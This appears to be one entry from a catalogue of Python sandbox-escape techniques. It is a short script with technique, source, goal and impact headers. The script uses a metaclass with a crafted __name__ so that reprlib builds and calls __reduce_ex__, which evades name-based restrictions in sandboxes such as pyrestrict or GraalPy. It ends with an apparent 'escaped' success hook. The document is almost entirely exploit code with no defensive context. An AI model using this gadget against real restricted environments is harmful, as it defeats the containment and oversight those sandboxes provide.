# technique: reprlib calls the method whose name it puts together of a class's __name__, which the metaclass computes
# source: reading pyrestrict and GraalPy's library
# goal: call __reduce_ex__ of a library's object
# impact: introspect
import reprlib, queue
class N:
    def __contains__(self, x): return False
    def __radd__(self, x): return '__reduce_ex__'
class M(type):
    @property
    def __name__(cls): return N()
class X(queue.Queue, metaclass=M):
    pass
r = reprlib.Repr.repr1(object, X(), 2)
print(r)
escaped(r[0])
